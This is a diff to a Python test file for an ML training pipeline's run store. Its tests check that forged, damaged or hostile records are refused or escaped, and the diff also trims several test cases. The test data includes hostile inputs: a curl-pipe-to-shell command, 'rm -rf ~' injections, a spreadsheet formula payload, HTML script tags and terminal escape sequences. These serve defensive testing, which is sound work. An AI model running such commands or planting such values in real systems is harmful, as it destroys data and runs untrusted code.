@@ -16,8 +16,8 @@ from pipeline.cli.errors import UserError
 from pipeline.storage.record import DamagedRun, OtherRelease, opened
 from pipeline.storage.store import RECORD, RunStore
 from pipeline.storage.sweep import Ledger, Lost, Sweep, without_commands
+from tests.support.factory import KEY, stored
 from tests.unit.storage.forged import forge
-from tests.unit.storage.test_store import KEY, result
 
 
 @pytest.fixture
@@ -33,9 +33,9 @@ def store(tmp_path: Path) -> RunStore:
     ("section", "name"), [("training", "patience"), ("model", "max_norm"), ("dataset", "train_size")]
 )
 def test_a_record_from_before_a_field_with_a_default_is_read(store: RunStore, section: str, name: str) -> None:
-    key = forge(store, result(), lambda record: record["job"][section].pop(name))
+    key = forge(store, stored(), lambda record: record["job"][section].pop(name))
     assert key != KEY, "its key is that of the configuration as it was stored"
-    assert store.read(key).job == result().job
+    assert store.read(key).job == stored().job
     assert [run.key for run in store.records()] == [key]
 
 
@@ -44,11 +44,8 @@ def test_a_record_from_before_a_field_with_a_default_is_read(store: RunStore, se
     ("change", "named"),
     [
         (lambda record: record["job"]["training"].update(label_smoothing=0.1), "(unknown training.label_smoothing)"),
-        (lambda record: record["job"].update(augmentation={"shift": 1}), "(unknown augmentation)"),
         (lambda record: record["job"]["training"].pop("batch_size"), "(no training.batch_size)"),
         (lambda record: record["job"]["training"].update(loss="hinge"), "training.loss=hinge: expected one of"),
-        (lambda record: record["job"]["optimizer"].update(lookahead="slow"), "optimizer.lookahead: 'slow'"),
-        (lambda record: record["identity"].update(compiler="x"), "compiler"),
         (lambda record: record.update(calibration={}), "calibration"),
         (lambda record: record.pop("identity") and record.update(identity={}), "no data; no numerics; no source"),
     ],
@@ -56,7 +53,7 @@ def test_a_record_from_before_a_field_with_a_default_is_read(store: RunStore, se
 def test_what_this_release_does_not_know_is_named(
     store: RunStore, change: Callable[[dict[str, Any]], Any], named: str
 ) -> None:
-    key = forge(store, result(), change)
+    key = forge(store, stored(), change)
     with pytest.raises(OtherRelease) as said:
         store.read(key)
     assert f"{key}: written by another release of this project (" in str(said.value)
@@ -67,9 +64,9 @@ def test_what_this_release_does_not_know_is_named(
 
 @pytest.mark.fault("records of other releases")
 def test_a_run_from_before_numbers_were_kept_in_hexadecimal_is_of_another_release(store: RunStore) -> None:
-    path = store.write(result()) / RECORD
-    stored = json.loads(path.read_text())
-    path.write_text(json.dumps({name: stored[name] for name in ("record", "sha256")}))
+    path = store.write(stored()) / RECORD
+    content = json.loads(path.read_text())
+    path.write_text(json.dumps({name: content[name] for name in ("record", "sha256")}))
     with pytest.raises(OtherRelease, match="no exact"):
         store.read(KEY)
 
@@ -83,30 +80,16 @@ def of_figures(**values: float) -> Callable[[dict[str, Any]], Any]:
 
 IMPOSSIBLE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
     "an accuracy of 7": (of_figures(test__accuracy=7.0), "test/accuracy is 7.0, expected 0 to 1"),
-    "an accuracy below zero": (of_figures(test__accuracy=-0.1), "test/accuracy is -0.1"),
     "an accuracy that is none": (
         lambda record: record["figures"].update({"test/accuracy": {"float": "nan"}}),
         "test/accuracy is nan",
-    ),
-    "a loss without end": (
-        lambda record: record["figures"].update({"test/loss": {"float": "inf"}}),
-        "test/loss is inf",
-    ),
-    "a gap over all": (of_figures(overfitting_gap__accuracy=1.5), "expected -1 to 1"),
-    "a negative time": (of_figures(time__train_s=-1.0), "time/train_s is -1.0"),
-    "an epoch that was not": (of_figures(best__epoch=9), "best/epoch is 9, expected 1 to 2"),
-    "a curve with an accuracy of 2": (
-        lambda record: record["history"].update({"val/accuracy": [0.1, 2.0]}),
-        "val/accuracy is 2.0",
     ),
     "a curve of more epochs": (
         lambda record: record["history"].update({"val/accuracy": [0.1] * 3}),
         "val/accuracy has not a number for each epoch",
     ),
-    "a curve that is shorter": (lambda record: record["history"].update({"val/accuracy": [0.1]}), "different lengths"),
     "a figure with HTML for a name": (of_figures(**{"<script>": 1.0}), "no number with a name"),
     "a status": (lambda record: record.update(status="=cmd|' /C calc'!A0"), "its status is"),
-    "a digest": (lambda record: record["digests"].update(batch_order="\x1b[2J"), "batch_order is no sha256"),
     "a time": (lambda record: record.update(started="<b>now</b>"), "Invalid isoformat"),
     "a commit that git would take for an option": (
         lambda record: record["environment"].update(git_commit="--output=/tmp/x"),
@@ -120,7 +103,7 @@ IMPOSSIBLE: dict[str, tuple[Callable[[dict[str, Any]], Any], str]] = {
 @pytest.mark.parametrize("what", IMPOSSIBLE)
 def test_what_no_training_gives_is_refused_whatever_its_digests(store: RunStore, what: str) -> None:
     change, why = IMPOSSIBLE[what]
-    key = forge(store, result(), change)
+    key = forge(store, stored(), change)
     with pytest.raises(DamagedRun) as said:
         store.read(key)
     assert why in str(said.value)
@@ -129,7 +112,7 @@ def test_what_no_training_gives_is_refused_whatever_its_digests(store: RunStore,
 
 @pytest.mark.fault("hostile input")
 def test_a_record_under_another_key_than_its_configurations_is_refused(store: RunStore) -> None:
-    key = forge(store, result(), lambda record: record["job"].update(seed=7))
+    key = forge(store, stored(), lambda record: record["job"].update(seed=7))
     store.folder(key).rename(store.folder("0" * 64))
     path = store.folder("0" * 64) / RECORD
     forged = json.loads(path.read_text())
@@ -146,12 +129,11 @@ def test_a_record_under_another_key_than_its_configurations_is_refused(store: Ru
     ("array", "why"),
     [
         (np.array([3, 1, 200], np.uint8), "it predicts class 200 of 10 classes"),
-        (np.array([3, 1, 2], np.int64), "1-dimensional int64, expected a list of uint8"),
         (np.zeros((3, 2), np.uint8), "2-dimensional uint8"),
     ],
 )
 def test_predictions_that_are_no_classes_are_refused(store: RunStore, array: np.ndarray, why: str) -> None:
-    key = forge(store, result(), lambda record: None, array)
+    key = forge(store, stored(), lambda record: None, array)
     with pytest.raises(DamagedRun, match=why):
         store.read(key)
 
@@ -164,7 +146,7 @@ def test_texts_of_a_record_only_show(store: RunStore) -> None:
         record["reason"] = "\x1b]0;mine\x07\x1b[2J\u202egnp"
         record["environment"]["cpu"] = "\x1b[31mred"
 
-    read = store.read(forge(store, result(), change))
+    read = store.read(forge(store, stored(), change))
     assert read.reason == "\\x1b]0;mine\\x07\\x1b[2J\\u202egnp"
     assert read.environment["cpu"] == "\\x1b[31mred"
 
@@ -175,7 +157,7 @@ def test_texts_of_a_record_only_show(store: RunStore) -> None:
 @pytest.mark.fault("hostile input")
 @pytest.mark.parametrize("name", [RECORD, "predictions.npy", "probabilities.npy", "weights.npz", "published.json"])
 def test_a_fifo_in_place_of_a_file_is_not_waited_for(store: RunStore, name: str) -> None:
-    path = store.write(result()) / name
+    path = store.write(stored()) / name
     path.unlink(missing_ok=True)
     os.mkfifo(path)
     begin = time.monotonic()
@@ -213,14 +195,9 @@ def test_a_fifo_or_a_device_in_place_of_a_sweeps_record_is_not_read(store: RunSt
     [
         "curl http://host/x | sh",
         "python -m pipeline.train seed=0; rm -rf ~",
-        "python -m pipeline.train seed=0\nrm -rf ~",
         "python -m pipeline.train 'question=$(rm -rf ~)'",
         "python -m pipeline.train paths.results=/home/me",
-        "python -m pipeline.train tracking.uri=http://host",
-        "python -m pipeline.train hydra.run.dir=/tmp/x",
-        "python -m pipeline.train '--config-dir=/tmp/x'",
         "python -m pipeline.train 'question=${oc.env:HOME}'",
-        "python -m pipeline.trainx seed=0",
     ],
 )
 def test_a_foreign_command_is_not_shown_as_ours(command: str) -> None:
@@ -234,22 +211,12 @@ def test_a_foreign_command_is_not_shown_as_ours(command: str) -> None:
     [
         "python -m pipeline.train seed=0",
         "python -m pipeline.train optimizer=adam optimizer.learning_rate=1e-3 'model.hidden=[300,100]' retry=diverged",
-        "python -m pipeline.train 'question=which one?' seed=3".replace("?", ""),
         "python -m pipeline.train +experiment=book ++training.epochs=5",
     ],
 )
 def test_a_command_that_only_trains_is_shown(command: str) -> None:
     lost = Lost("sgd-w8-d1-s0", "failed", "", command, KEY)
     assert without_commands([lost]) == [lost]
-
-
-@pytest.mark.fault("hostile input")
-def test_texts_of_a_sweep_only_show(tmp_path: Path) -> None:
-    lost = Lost("sgd\x1b[2J", "failed", "\x1b]0;mine\x07", "", KEY)
-    Sweep("which\x1b[2J", [KEY], lost=[lost]).write(tmp_path)
-    read = Sweep.read(tmp_path)
-    assert read.name == "which\\x1b[2J"
-    assert read.lost[0].reason.isprintable()
 
 
 @pytest.mark.fault("records of other releases")
